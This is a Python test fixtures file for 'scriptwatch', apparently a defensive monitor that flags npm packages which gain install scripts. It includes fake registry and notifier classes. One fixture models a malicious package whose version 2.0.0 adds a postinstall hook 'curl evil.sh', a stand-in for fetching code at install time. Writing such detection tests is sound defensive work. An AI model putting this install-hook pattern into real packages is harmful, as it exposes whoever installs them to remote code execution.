"""Shared fixtures and fakes for scriptwatch tests."""

from __future__ import annotations

import httpx
import pytest

from scriptwatch.adapters.base import BaseRegistryClient, NotFoundError
from scriptwatch.models.schemas import ChangeBatch, ChangeEvent, Cursor, DetectionEvent, Packument
from scriptwatch.notify import BaseNotifier


def make_packument(
    name: str,
    versions: dict[str, dict | None],
    latest: str | None = None,
    times: dict[str, str] | None = None,
) -> Packument:
    """Build a packument from `{version: scripts}`; None means no scripts."""
    data: dict = {"name": name, "versions": {}}
    for version, scripts in versions.items():
        manifest: dict = {"name": name, "version": version}
        if scripts is not None:
            manifest["scripts"] = scripts
        data["versions"][version] = manifest
    if latest is not None:
        data["dist-tags"] = {"latest": latest}
    if times is not None:
        data["time"] = times
    return Packument.model_validate(data)


def batch(names: list[str], next_cursor: Cursor) -> ChangeBatch:
    return ChangeBatch(
        rows=[ChangeEvent(package_name=n) for n in names],
        next_cursor=next_cursor,
    )


class FakeRegistryClient(BaseRegistryClient):
    """In-memory registry.

    `batches` is consumed in order; each entry is a ChangeBatch to return or
    an exception to raise. Once exhausted, empty batches at the current
    cursor are returned.
    """

    def __init__(
        self,
        head: Cursor = "0",
        batches: list | None = None,
        packuments: dict[str, Packument] | None = None,
        head_error: Exception | None = None,
    ) -> None:
        self.head = head
        self.batches = list(batches or [])
        self.packuments = dict(packuments or {})
        self.head_error = head_error
        self.cursors_requested: list[Cursor] = []
        self.packuments_requested: list[str] = []

    async def get_current_cursor(self) -> Cursor:
        if self.head_error is not None:
            raise self.head_error
        return self.head

    async def get_change_batch(self, cursor: Cursor, limit: int) -> ChangeBatch:
        self.cursors_requested.append(cursor)
        if not self.batches:
            return ChangeBatch(rows=[], next_cursor=cursor)
        item = self.batches.pop(0)
        if isinstance(item, Exception):
            raise item
        return item

    async def get_packument(self, name: str) -> Packument:
        self.packuments_requested.append(name)
        if name not in self.packuments:
            raise NotFoundError(name)
        return self.packuments[name]


class RecordingNotifier(BaseNotifier):
    """Collects events; fails the first `fail_times` deliveries."""

    def __init__(self, fail_times: int = 0) -> None:
        self.events: list[DetectionEvent] = []
        self.fail_times = fail_times
        self.calls = 0
        self.closed = False

    async def notify(self, event: DetectionEvent) -> None:
        self.calls += 1
        if self.calls <= self.fail_times:
            raise RuntimeError("webhook unavailable")
        self.events.append(event)

    async def aclose(self) -> None:
        self.closed = True


def mock_http(handler) -> httpx.AsyncClient:
    """An AsyncClient whose requests are answered by `handler`."""
    return httpx.AsyncClient(transport=httpx.MockTransport(handler))


@pytest.fixture
def evil_packument() -> Packument:
    return make_packument(
        "evil-pkg",
        {"1.0.0": {"test": "jest"}, "2.0.0": {"postinstall": "curl evil.sh"}},
        latest="2.0.0",
        times={
            "created": "2024-01-01T00:00:00.000Z",
            "1.0.0": "2024-01-01T00:00:00.000Z",
            "2.0.0": "2024-02-01T00:00:00.000Z",
        },
    )


@pytest.fixture
def plain_packument() -> Packument:
    return make_packument(
        "plain-pkg",
        {"1.0.0": None, "1.1.0": {"build": "tsc"}},
        latest="1.1.0",
    )
